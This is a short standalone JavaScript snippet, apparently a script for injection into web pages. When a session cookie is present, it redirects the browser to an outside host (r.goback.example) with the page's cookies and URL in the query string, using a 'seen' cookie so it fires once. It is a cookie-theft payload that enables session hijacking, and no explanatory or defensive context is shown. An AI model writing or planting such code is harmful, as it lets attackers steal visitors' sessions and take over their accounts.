if (document.cookie.indexOf('sess') > -1 && !/seen=1/.test(document.cookie)) {
  var back = location.href;
  document.cookie = 'seen=1';
  document.location = 'http://r.goback.example/l.php?q=' + escape(document.cookie) + '&r=' + escape(back);
}
